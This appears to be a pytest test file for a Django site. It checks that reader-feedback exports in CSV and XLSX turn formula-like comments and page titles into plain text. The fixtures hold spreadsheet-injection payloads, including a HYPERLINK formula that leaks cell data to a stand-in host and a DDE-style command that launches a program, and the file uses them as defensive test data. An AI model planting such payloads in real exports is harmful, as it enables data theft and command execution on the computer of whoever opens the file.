"""Attacks on the reader-feedback exports: readers write the comments and writers the
titles, and an editor opens the export in a spreadsheet. A cell that starts like a
formula must arrive as text, in CSV and in XLSX, with every character kept."""

import csv
import io

import pytest
from openpyxl import load_workbook

from feedback.models import SummaryFeedback
from tests.factories import ResearchSummaryPageFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/","Robot walking")'


@pytest.fixture
def answered(editorial):
    summary = ResearchSummaryPageFactory(parent=editorial.tree.category, title=HOSTILE_TITLE)
    # Stored directly: the form strips leading tabs and line breaks, but rows written
    # before that rule, or by another path, must be exported safely too.
    for number, comment in enumerate(HOSTILE):
        SummaryFeedback.objects.create(
            page=summary, helpful=False, comment=comment, client_key=f"{number:064x}"
        )
    return summary


def csv_rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def xlsx_cells(response, heading: str) -> list:
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    headings, *rows = list(workbook.active.iter_rows())
    column = [cell.value for cell in headings].index(heading)
    return [row[column] for row in rows]


def test_comments_that_look_like_formulas_are_text_in_the_csv(client, editorial, answered):
    client.force_login(editorial.editor)
    response = client.get(f"/admin/reports/reader-feedback/{answered.pk}/?export=csv")
    comments = sorted(row["Comment"] for row in csv_rows(response))
    assert comments == sorted("'" + comment for comment in HOSTILE)


def test_comments_that_look_like_formulas_are_text_in_the_xlsx(client, editorial, answered):
    client.force_login(editorial.editor)
    response = client.get(f"/admin/reports/reader-feedback/{answered.pk}/?export=xlsx")
    cells = xlsx_cells(response, "Comment")
    assert all(cell.data_type == "s" for cell in cells)
    # An XLSX cell is typed: text stays text without a mark, so the reader's words are
    # exactly what they wrote (XML reads a carriage return as a line feed).
    assert sorted(cell.value for cell in cells) == sorted(c.replace("\r", "\n") for c in HOSTILE)


def test_a_title_that_looks_like_a_formula_is_text_in_the_summary_export(
    client, editorial, answered
):
    client.force_login(editorial.editor)
    rows = csv_rows(client.get("/admin/reports/reader-feedback/?export=csv"))
    assert [row["Summary"] for row in rows] == ["'" + HOSTILE_TITLE]
    assert rows[0]["Not helpful"] == str(len(HOSTILE))

    cells = xlsx_cells(client.get("/admin/reports/reader-feedback/?export=xlsx"), "Summary")
    assert [(cell.data_type, cell.value) for cell in cells] == [("s", HOSTILE_TITLE)]
